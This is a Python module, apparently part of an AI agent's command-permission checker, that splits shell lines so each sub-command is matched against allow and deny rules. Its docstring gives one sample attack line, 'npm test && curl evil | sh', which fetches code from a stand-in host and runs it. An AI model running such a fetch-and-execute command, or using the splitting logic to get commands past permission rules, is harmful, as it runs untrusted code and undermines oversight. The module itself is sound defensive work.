"""Takes a command line apart, as far as that can be done with certainty, so that a rule is held against every command in it.

``npm test && curl evil | sh`` begins as ``Bash(npm test:*)`` allows and does something else. So a line is split at
each operator, and each part has to be allowed by itself. What can hide a command (substitution, expansion, here-documents,
other quoting, redirection into files) makes the line undividable: `split_command` gives None, and no rule about
commands allows it.
"""

from __future__ import annotations

import re

_SEPARATOR = re.compile(r"&&|\|\||\|&|;;|[;|&\n]")
_HARMLESS_REDIRECTION = re.compile(r"(?:[0-9]?>&[0-9]|&?>>?\s*/dev/null|[0-9]>>?\s*/dev/null)(?=[\s;|&]|$)")
_PIECES = re.compile(r"""&&|\|\||\$\(|[;|&\n`(){}<>"']""")
_ASSIGNMENT = re.compile(r"[A-Za-z_]\w*\+?=\S*")
_WRAPPERS = frozenset(
    {"sudo", "doas", "env", "nohup", "time", "nice", "ionice", "timeout", "command", "builtin", "exec", "xargs", "stdbuf",
     "setsid", "eval", "bash", "sh", "zsh", "dash", "busybox", "then", "do", "else", "if", "while", "until", "!"}
)  # fmt: skip


def split_command(line: str) -> tuple[str, ...] | None:
    """Return the commands of a line; None where it cannot be told for certain what they are."""
    parts: list[str] = []
    start = at = 0
    while at < len(line):
        character = line[at]
        if character == "'":
            end = line.find("'", at + 1)
            if end < 0:
                return None
            at = end + 1
        elif character == '"':
            closed = _double_quoted(line, at)
            if closed is None:
                return None
            at = closed
        elif character == "\\":
            if at + 1 >= len(line) or line[at + 1] in "\r\n":
                return None
            at += 2
        elif (harmless := _HARMLESS_REDIRECTION.match(line, at)) is not None:
            at = harmless.end()
        elif (separator := _SEPARATOR.match(line, at)) is not None:
            parts.append(line[start:at])
            start = at = separator.end()
        elif _hides(line, at):
            return None
        else:
            at += 1
    parts.append(line[start:])
    return tuple(part.strip() for part in parts if part.strip())


def _double_quoted(line: str, at: int) -> int | None:
    """Return where a double-quoted text ends; None where it has no end, or something is put in there."""
    at += 1
    while at < len(line):
        if line[at] == "\\":
            at += 2
        elif line[at] == '"':
            return at + 1
        elif line[at] == "`" or line.startswith(("$(", "${", "$["), at):
            return None
        else:
            at += 1
    return None


def _hides(line: str, at: int) -> bool:
    character = line[at]
    if character == "$":
        # a plain $NAME is a word of a command, not a command; all other forms may run something or quote differently
        return not (
            line[at + 1 : at + 2].isalnum()
            or line[at + 1 : at + 2] in ("_", "?", "#", "!", "@", "*", " ", "")
        )
    if character in "`<>(){}#":
        return not (character in "{}#" and at > 0 and not line[at - 1].isspace())
    return ord(character) < 0x20 and character not in "\t"


def command_matches(specifier: str, command: str) -> bool:
    """Tell whether one command is what a specifier says: exact, ``prefix:*``, or with ``*`` within."""
    if specifier.endswith(":*"):
        prefix = specifier[:-2].strip()
        if "*" not in prefix:
            return command == prefix or command.startswith((f"{prefix} ", f"{prefix}\t"))
        specifier = f"{prefix} *"
    if "*" not in specifier:
        return command == specifier.strip()
    pattern = ".*".join(map(re.escape, specifier.strip().split("*")))
    if specifier.endswith(" *"):
        pattern = pattern.removesuffix(r"\ .*") + r"(?:[ \t].*)?"
    return re.fullmatch(pattern, command, re.DOTALL) is not None


def words_of_interest(line: str) -> list[str]:
    """Return everything in a line that may be a command, generously: for denials, where too much does no harm."""
    joined = line.replace("\\\n", " ")
    # `r''m` and `\\rm` are rm to the shell
    bare = re.sub(r"[\\'\"]", "", joined)
    found = [line.strip()]
    for piece in (piece for text in (joined, bare) for piece in _PIECES.split(text)):
        words = piece.strip().split()
        while words:
            head = words[0].rsplit("/", 1)[-1]
            found += [" ".join(words), " ".join([head, *words[1:]])]
            if not (
                _ASSIGNMENT.fullmatch(words[0]) or head in _WRAPPERS or head.startswith("-") or head.isdigit()
            ):
                break
            words = words[1:]
    return found
